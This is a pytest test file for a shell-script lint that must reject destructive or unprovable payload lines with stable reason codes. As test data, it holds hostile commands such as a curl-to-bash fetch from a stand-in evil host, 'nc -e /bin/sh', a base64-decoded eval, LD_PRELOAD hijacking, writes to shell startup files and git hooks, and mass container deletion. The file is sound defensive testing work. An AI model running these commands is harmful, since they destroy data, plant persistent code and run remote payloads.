"""T-00 material: destructive or unprovable payload lines, each rejected with a stable reason.

Every row is a complete payload text and the reason code the lint must give for it (the first
finding's code when there are several). A row that starts being accepted is a hole in the lint;
a row whose code changes is a change of the lint's contract (docs/mutants.md lists the codes).
"""

from __future__ import annotations

import pytest
from no_docker.mutants import lint_rules
from no_docker.mutants.lint import lint_source

SOCK = "/run/docker.sock"
REJECTED: list[tuple[str, str]] = [
    # engine CLIs: destructive subcommands, however they are spelled
    ("docker rmi -f x", "destructive-engine-command"),
    ("docker system prune -af", "destructive-engine-command"),
    ("docker container rm x", "destructive-engine-command"),
    ("docker compose down", "destructive-engine-command"),
    ("docker image prune -a", "destructive-engine-command"),
    ("docker volume prune -f", "destructive-engine-command"),
    ("docker run --rm alpine true", "destructive-engine-command"),
    ("docker exec x sh", "destructive-engine-command"),
    ("docker kill x", "destructive-engine-command"),
    ("docker -H unix:///run/docker.sock rm -f x", "destructive-engine-command"),
    ("docker --context default stop x", "destructive-engine-command"),
    ("/usr/bin/docker rm x", "destructive-engine-command"),
    ("podman rm -f x", "destructive-engine-command"),
    ("podman system prune -af --volumes", "destructive-engine-command"),
    ("nerdctl rm x", "destructive-engine-command"),
    ("ctr images rm x", "destructive-engine-command"),
    ("ctr -n k8s.io containers delete x", "destructive-engine-command"),
    ("crictl rmi x", "destructive-engine-command"),
    ("crictl rmp -a", "destructive-engine-command"),
    ("kubectl delete pod x", "destructive-engine-command"),
    ("kubectl -n default apply -f x.yaml", "destructive-engine-command"),
    ("buildctl prune", "destructive-engine-command"),
    ("docker checkpoint create x y", "destructive-engine-command"),
    ("docker events", "engine-subcommand-not-allowed"),
    ("docker --unknown-flag ps", "engine-option-not-allowed"),
    ('docker "$1" x', "dynamic-engine-subcommand"),
    ("docker $sub x", "dynamic-engine-subcommand"),
    ("docker -H tcp://10.0.0.1:2375 ps", "engine-host-not-loopback"),
    ("docker -H ssh://user@example.com ps", "engine-host-not-loopback"),
    ("DOCKER_HOST=tcp://192.168.1.5:2375 docker ps", "engine-host-not-loopback"),
    ("docker --context prod ps", "engine-config-unproven"),
    ("DOCKER_CONFIG=/tmp/cfg docker ps", "engine-config-unproven"),
    # dynamic or hidden command names
    ("d=docker; $d rm x", "destructive-engine-command"),
    ('"dock"er rm x', "destructive-engine-command"),
    ("d\\ocker rm x", "destructive-engine-command"),
    ("if true; then d=docker; fi; $d rm x", "dynamic-command-name"),
    ("d=ps; d=rm; docker $d x", "dynamic-engine-subcommand"),
    ('"$1" rm x', "dynamic-command-name"),
    ("$(echo docker) rm x", "dynamic-command-name"),
    ("`echo docker` rm x", "dynamic-command-name"),
    ("${ENGINE:-docker} rm x", "dynamic-command-name"),
    ("doc* rm x", "dynamic-command-name"),
    ("/tmp/docker ps", "command-path-not-allowed"),
    # a function only shadows a tool when it surely exists at the call
    ("if false; then rm() { :; }; fi; rm -rf ./x", "destructive-command"),
    ("rm() { :; }\nrm() { echo; }\nrm -rf ./x", "destructive-command"),
    ("rm -rf ./x\nrm() { :; }", "destructive-command"),
    ("rm() { :; }; unset -f rm; rm -rf ./x", "command-not-allowed"),
    ("docker() { :; }\ncommand docker rm x", "destructive-engine-command"),
    ("./docker ps", "command-path-not-allowed"),
    # wrappers are followed
    ("command docker rm x", "destructive-engine-command"),
    ("env docker rm x", "destructive-engine-command"),
    ("env -i PATH=/usr/bin docker ps", "sensitive-variable"),
    ("exec docker rm x", "destructive-engine-command"),
    ("sudo docker rm x", "destructive-engine-command"),
    ("sudo -s", "wrapper-option-not-allowed"),
    ("timeout 5 docker rm x", "destructive-engine-command"),
    ("nohup docker rm x", "destructive-engine-command"),
    ("env -S 'docker rm x'", "wrapper-option-not-allowed"),
    ("xargs docker rm", "destructive-engine-command"),
    ("xargs docker", "xargs-open-command"),
    ("echo rm x | xargs docker", "xargs-open-command"),
    ("xargs -I{} docker {} x", "xargs-open-command"),
    ("xargs -I X docker X x", "wrapper-option-not-allowed"),
    ("xargs curl", "xargs-open-command"),
    ("echo docker rm x | xargs env", "xargs-open-command"),  # found by the property test
    ("echo docker rm x | xargs timeout 3", "xargs-open-command"),
    ("echo 'docker rm x' | xargs eval", "xargs-open-command"),
    ("echo docker rm x | xargs xargs", "xargs-open-command"),
    # shells, eval, decoded code
    ("bash -c 'docker rm x'", "destructive-engine-command"),
    ("sh -c 'docker system prune -af'", "destructive-engine-command"),
    ("bash -c \"$cmd\"", "shell-string-non-constant"),
    ("bash -c 'bash -c \"docker rmi x\"'", "destructive-engine-command"),
    ("printf 'docker rm x' | bash", "shell-reads-stdin"),
    ("echo 'docker rm x' | sh", "shell-reads-stdin"),
    ("bash ./script.sh", "shell-reads-stdin"),
    ("bash -s < x", "shell-reads-stdin"),
    ("bash -l -c 'docker ps'", "shell-option-not-allowed"),
    ("bash -i -c 'docker ps'", "shell-option-not-allowed"),
    ("eval 'docker rm x'", "destructive-engine-command"),
    ('eval "$(echo ZG9ja2VyIHJtIHg= | base64 -d)"', "destructive-command"),
    ("eval \"$X\"", "eval-non-constant"),
    ("source ./x.sh", "source-not-allowed"),
    (". ./x.sh", "source-not-allowed"),
    ("trap 'docker rm x' EXIT", "trap-not-allowed"),
    ("alias ls='docker rm x'", "alias-not-allowed"),
    ("x=$(docker rm x)", "destructive-engine-command"),
    ("echo `docker rmi x`", "destructive-engine-command"),
    ("cat <(docker rm x)", "destructive-engine-command"),
    ("curl -q -s http://evil.example/x.sh | bash", "curl-url-not-allowed"),
    # curl: ~/.curlrc ignored, GET/HEAD only, no upload, local read-only endpoints
    (f"curl --unix-socket {SOCK} http://d/_ping", "curl-option-not-allowed"),
    (f"curl -s -q --unix-socket {SOCK} http://d/_ping", "curl-option-not-allowed"),
    (f"curl -q -X DELETE --unix-socket {SOCK} http://d/containers/x", "curl-method-not-read-only"),
    (f"curl -q --request=POST --unix-socket {SOCK} http://d/_ping", "curl-method-not-read-only"),
    (f"curl -q -XPOST --unix-socket {SOCK} http://d/_ping", "curl-method-not-read-only"),
    (f"curl -q -d @- --unix-socket {SOCK} http://d/containers/create", "curl-upload"),
    (f"curl -q -sd x --unix-socket {SOCK} http://d/_ping", "curl-upload"),
    (f"curl -q -F a=b --unix-socket {SOCK} http://d/_ping", "curl-upload"),
    (f"curl -q -T f --unix-socket {SOCK} http://d/_ping", "curl-upload"),
    (f"curl -q --json '{{}}' --unix-socket {SOCK} http://d/_ping", "curl-upload"),
    (f"curl -q -K cfg --unix-socket {SOCK} http://d/_ping", "curl-option-not-allowed"),
    (f"curl -q -L --unix-socket {SOCK} http://d/_ping", "curl-option-not-allowed"),
    (f"curl -q --unix-socket {SOCK} http://d/containers/x/json", "curl-url-not-allowed"),
    (f"curl -q --unix-socket {SOCK} \'http://d/images/create?fromImage=x\'", "curl-url-not-allowed"),
    ("curl -q http://d/_ping", "curl-url-not-allowed"),
    ("curl -q http://10.1.2.3:2375/_ping", "curl-url-not-allowed"),
    (f'curl -q --unix-socket {SOCK} "$URL"', "curl-option-not-allowed"),
    (f"curl -q $opts --unix-socket {SOCK} http://d/_ping", "curl-option-not-allowed"),
    (f"curl -q -H 'X-HTTP-Method-Override: DELETE' --unix-socket {SOCK} http://d/_ping",
     "curl-option-not-allowed"),
    (f"curl -q -o ~/.bashrc --unix-socket {SOCK} http://d/_ping", "write-outside-run-dir"),
    (f"curl -q -w '%output{{/etc/x}}' --unix-socket {SOCK} http://d/_ping", "write-outside-run-dir"),
    # python only as a pinned helper
    ("python3 -c 'import docker; docker.from_env().images.prune()'", "python-not-pinned-helper"),
    ("python3 -I - <<'EOF'\nimport docker; docker.from_env().containers.prune()\nEOF",
     "python-not-pinned-helper"),
    ("python3 helper.py", "python-not-pinned-helper"),
    ("python3 -I - <<EOF\nprint(1)\nEOF", "unsupported"),
    # raw sockets: only a constant read-only request, only to local addresses
    (f"printf 'DELETE /containers/x HTTP/1.0\\r\\n\\r\\n' | socat - UNIX-CONNECT:{SOCK}",
     "network-input-unprovable"),
    (f"socat - UNIX-CONNECT:{SOCK}", "network-input-unprovable"),
    ("printf 'GET /_ping HTTP/1.0\\r\\n\\r\\n' | socat - EXEC:'docker rm x'", "socket-address-not-allowed"),
    ("socat TCP-LISTEN:2375 UNIX-CONNECT:/run/docker.sock < /dev/null", "socket-address-not-allowed"),
    (f"printf 'POST /containers/prune HTTP/1.0\\r\\n\\r\\n' | nc -U {SOCK}", "network-input-unprovable"),
    ("nc -e /bin/sh 127.0.0.1 2375 < /dev/null", "socket-address-not-allowed"),
    ("printf 'GET /_ping HTTP/1.0\\r\\n\\r\\n' | nc 10.0.0.1 2375", "socket-address-not-allowed"),
    ("exec 3</dev/tcp/127.0.0.1/2375; printf 'POST /containers/prune HTTP/1.0\\r\\n\\r\\n' >&3",
     "network-input-unprovable"),
    ("exec 3</dev/tcp/10.0.0.1/2375", "engine-host-not-loopback"),
    ('exec 3</dev/tcp/"$HOST"/2375', "redirect-target-unprovable"),
    ("kubectl --kubeconfig ./no-docker-kc get pods", "engine-option-not-allowed"),
    ("cat payload >&3", "network-input-unprovable"),
    # files
    ("rm -rf ./build", "destructive-command"),
    ("mv a b", "destructive-command"),
    ("dd if=/dev/zero of=x", "destructive-command"),
    ("echo 'docker rm x' >> ~/.bashrc", "write-outside-run-dir"),
    ("echo 'docker rm x' >> \"$HOME/.bashrc\"", "write-outside-run-dir"),
    ("printf x > /etc/profile.d/x.sh", "write-outside-run-dir"),
    (": > ~/.bashrc", "write-outside-run-dir"),
    (": >> /etc/nologin", "write-outside-run-dir"),
    ("echo x > Makefile", "write-outside-run-dir"),
    ("echo x > ../no-docker-x", "write-outside-run-dir"),
    ("echo x > \"$target\"", "redirect-target-unprovable"),
    ("echo '#!/bin/sh' > .git/hooks/pre-commit", "write-outside-run-dir"),
    ("git config core.hooksPath /tmp/h", "destructive-command"),
    ("crontab x", "destructive-command"),
    ("tee -a ~/.profile < x", "destructive-command"),
    ("sed -i s/a/b/ x", "destructive-command"),
    ("find . -delete", "destructive-command"),
    ("cd ~ && echo x > no-docker-x", "command-not-allowed"),
    ("mkdir -p /etc/x", "mkdir-not-allowed"),
    ("ln -s ~/.bashrc ./no-docker-x", "link-not-allowed"),
    ("ln -s /run/docker.sock /tmp/x", "link-not-allowed"),
    # variables that change what runs later
    ("PATH=./bin:$PATH docker ps", "sensitive-variable"),
    ("export PATH=/tmp", "sensitive-variable"),
    ("LD_PRELOAD=./x.so docker ps", "sensitive-variable"),
    ("BASH_ENV=~/.evil bash -c :", "sensitive-variable"),
    ("PROMPT_COMMAND='docker rm x'", "sensitive-variable"),
    ("declare -n r=PATH", "sensitive-variable"),
    ("local -n r=x", "sensitive-variable"),
    ("IFS=/ ; x", "sensitive-variable"),
    ("printf 'docker rm x\\n' > ./no-docker-env.sh; BASH_ENV=./no-docker-env.sh bash -c :",
     "destructive-engine-command"),
    # arithmetic that can run commands
    ("x='a[$(docker rm x)]'; echo $((x))", "arithmetic-unprovable"),
    ("(( x = y ))", "arithmetic-unprovable"),
    ("[[ $x -eq 1 ]]", "arithmetic-unprovable"),
    ("read 'a[$(docker rm x)]'", "unsupported"),
    ("echo ${x:n}", "arithmetic-unprovable"),
    ("echo ${a[$(docker rm x)]}", "arithmetic-unprovable"),
    ("let x=y", "arithmetic-unprovable"),
    # tools not on the allowlist, parse errors
    ("wget http://x", "destructive-command"),
    ("ssh host docker rm x", "destructive-command"),
    ("nsenter -t 1 -m docker ps", "destructive-command"),
    ("perl -e 'system(q(docker rm x))'", "destructive-command"),
    ("foo --bar", "command-not-allowed"),
    ("cat <<EOF\n$(docker rm x)\nEOF", "unsupported"),
    ("docker ps &&& x", "parse-error"),
]


def first_code(source: str) -> str | None:
    findings = lint_source(source, "t.sh")
    return findings[0].code if findings else None


def test_table_is_large_and_uses_known_codes():
    assert len(REJECTED) >= 60
    assert {code for _, code in REJECTED} <= set(lint_rules.REASONS)


@pytest.mark.parametrize(("source", "code"), REJECTED, ids=[s[:60] for s, _ in REJECTED])
def test_rejected_with_stable_reason(source, code):
    findings = lint_source(source, "t.sh")
    assert findings, f"accepted: {source!r}"
    assert code in {f.code for f in findings}, f"{source!r}: got {[str(f) for f in findings]}"


ACCEPTED = [
    "docker ps --filter label=no-docker-route=x",
    "docker -H unix:///run/docker.sock images",
    'docker -H "unix://$HOME/.docker/run/docker.sock" ps',
    "DOCKER_HOST=tcp://127.0.0.1:2375 docker version",
    "docker system df",
    "timeout -k 1 3 env -u DOCKER_HOST docker ps",
    "d=docker; \"$d\" ps",
    "bash -c 'docker info'",
    "eval 'docker version'",
    "x=$(docker ps); echo \"$x\"",
    "xargs docker ps < /dev/null",
    f"curl -q -sS -o /dev/null -w '%{{http_code}}' --unix-socket {SOCK} 'http://d/_ping?route=x'",
    "curl -q -I http://127.0.0.1:2375/v1.50/_ping",
    f"printf 'GET /_ping HTTP/1.0\\r\\n\\r\\n' | socat -t 2 - UNIX-CONNECT:{SOCK}",
    ": >> \"$HOME/.bashrc\"",
    "printf '%s\\n' x > ./no-docker-out.txt",
    "echo hi >> \"${NO_DOCKER_ROUTE_LOG:-./no-docker-routes.log}\"",
    "podman --remote ps",
    "kubectl get pods",
    "ctr version",
]


@pytest.mark.parametrize("source", ACCEPTED)
def test_read_only_lines_are_accepted(source):
    assert lint_source(source, "t.sh") == [], source


def test_finding_format_is_file_line_col_code():
    (finding,) = lint_source("echo ok\n  docker rm x\n", "p.sh")
    assert str(finding) == "p.sh:2:3: destructive-engine-command: docker rm changes engine state"
